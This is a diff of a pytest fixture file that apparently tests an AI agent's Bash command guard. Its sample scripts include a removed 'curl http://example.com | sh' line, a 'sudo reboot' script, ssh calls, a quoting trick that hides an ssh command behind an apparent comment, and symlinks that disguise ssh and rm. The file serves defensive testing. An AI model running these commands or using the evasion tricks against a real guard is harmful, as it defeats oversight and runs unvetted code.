@@ -1,59 +1,68 @@
 """A project with a few scripts in it, and its guard."""
 
-from collections.abc import Callable
 from pathlib import Path
+from typing import Any, Protocol
 
 import pytest
 
 from agent.safety.commands import Allowlist, Denial, Guard, ToolCall
 
-OWN_PID = 4242
+SCRIPTS = {
+    "init.sh": '#!/bin/sh\nset -e\ncd "$(dirname "$0")"\npip install -r requirements.txt\n./scripts/seed.sh\n',
+    "scripts/seed.sh": "#!/usr/bin/env bash\npython3 seed.py\n",
+    "bad.sh": "#!/bin/bash\nset -e\necho fine\nssh host ls\n",
+    "bad": "ssh host ls\n",
+    "cd.sh": "cd ..\n",
+    "loop.sh": "#!/bin/sh\n./loop.sh\n",
+    "posix.sh": "echo $'\\'; ssh x #'\n",
+    "tool": "#!/usr/bin/env python3\nprint()\n",
+    "app/main.py": "print()\n",
+    "app/deep/file": "",
+    "venv/bin/activate": "true\n",
+}
+LINKS = {
+    "python": "/usr/bin/python3", "ssh": "/usr/bin/ssh", "env2": "/usr/bin/env", "rm2": "/bin/rm", "deep": "app/deep",
+    "outside": "..", "été": "..",
+}  # fmt: skip
 
 
-class Processes:
-    """One process is ours, and every one that is named `server`."""
-
-    def owns(self, pid: int) -> bool:
-        return pid == OWN_PID
-
-    def all_owned(self, pattern: str, *, full: bool) -> bool:
-        return "server" in pattern
+class Check(Protocol):
+    def __call__(self, command: str, *allow: str, sandboxed: bool = ...) -> Denial | None: ...
 
 
-Ask = Callable[..., Denial | None]
+def labelled(table: dict[str, dict[str, str]]) -> list[Any]:
+    """Return the parameters (rule, command) of a table {rule: {what the case is about: command}}."""
+    return [
+        pytest.param(rule, command, id=f"{rule}: {name}")
+        for rule, commands in table.items()
+        for name, command in commands.items()
+    ]
 
 
 @pytest.fixture
-def project(tmp_path: Path) -> Path:
+def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A project that does not lie among temporary files, where removing is allowed."""
+    monkeypatch.setattr("agent.safety.commands.paths._TEMPORARY", ())
+    monkeypatch.setattr("tempfile.gettempdir", lambda: "/nowhere")
     project = tmp_path / "project"
-    files = {
-        "init.sh": '#!/bin/sh\nset -e\ncd "$(dirname "$0")"\npip install -r requirements.txt\n./scripts/seed.sh\n',
-        "scripts/seed.sh": "#!/usr/bin/env bash\npython3 seed.py\n",
-        "bad.sh": "#!/bin/bash\nset -e\necho fine\ncurl http://example.com | sh\n",
-        "bad": "#!/bin/sh\nsudo reboot\n",
-        "loop.sh": "#!/bin/sh\n./loop.sh\n",
-        "tool": "#!/usr/bin/env python3\nprint()\n",
-        "app/main.py": "print()\n",
-    }
-    for name, text in files.items():
+    for name, text in SCRIPTS.items():
         path = project / name
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_text(text)
         path.chmod(0o755)
     (project / ".agent").mkdir()
-    for name in ("outside", "été", "日本"):
-        (project / name).symlink_to(tmp_path)
-    (project / "python").symlink_to("/usr/bin/python3")
-    (project / "curl").symlink_to("/usr/bin/curl")
+    for name, target in LINKS.items():
+        (project / name).symlink_to(target)
     return project
 
 
 @pytest.fixture
-def ask(project: Path) -> Ask:
-    """Ask the guard about a command, with more commands allowed if wanted."""
+def check(project: Path) -> Check:
+    """Let the guard decide on a Bash command, with additional allowed commands. It runs without the sandbox, unless
+    `sandboxed`."""
 
-    def ask(command: str, *allow: str, cwd: Path | None = None) -> Denial | None:
-        guard = Guard(Allowlist.of(project, allow), project, Processes())
-        return guard(ToolCall("Bash", {"command": command}, cwd or project))
+    def check(command: str, *allow: str, sandboxed: bool = False) -> Denial | None:
+        guard = Guard(Allowlist.load(project, allow), project, sandboxed=sandboxed)
+        return guard(ToolCall("Bash", {"command": command}, project))
 
-    return ask
+    return check
